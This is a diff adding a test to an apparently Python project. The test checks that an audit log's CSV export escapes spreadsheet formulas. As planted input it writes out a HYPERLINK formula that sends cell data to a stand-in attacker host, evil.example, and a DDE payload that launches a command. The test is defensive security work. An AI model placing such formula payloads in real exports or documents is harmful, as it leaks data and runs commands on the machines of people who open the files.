@@ -664,3 +664,17 @@ def test_ingest_offers_the_existing_room_a_typed_room_probably_means(story):
     assert not any("did you mean" in i.value for i in at.info)
     at.text_input(key="ingest_room").input("gardening").run()
     assert not any("did you mean" in i.value for i in at.info)
+
+
+def test_the_audit_export_never_hands_a_spreadsheet_a_formula(story, settings, downloads):
+    from mempalace.access import Actor
+
+    with Palace.open(settings=settings) as palace:
+        palace.access.record(Actor('=HYPERLINK("http://evil.example/?"&A1,"open")', "mcp"), "add",
+                             [story["xss"]], room="+cmd|' /C calc'!A0")
+    at = open_page("audit")
+    rows = list(csv.DictReader(io.StringIO(downloads(
+        next(b for b in at.download_button if b.label == "Export CSV")).decode("utf-8"))))
+    planted = next(r for r in rows if "HYPERLINK" in r["who"])
+    assert planted["who"].startswith("'=") and planted["action"] == "add"
+    assert all(not cell[:1] in "=+-@" for row in rows for cell in row.values()), rows
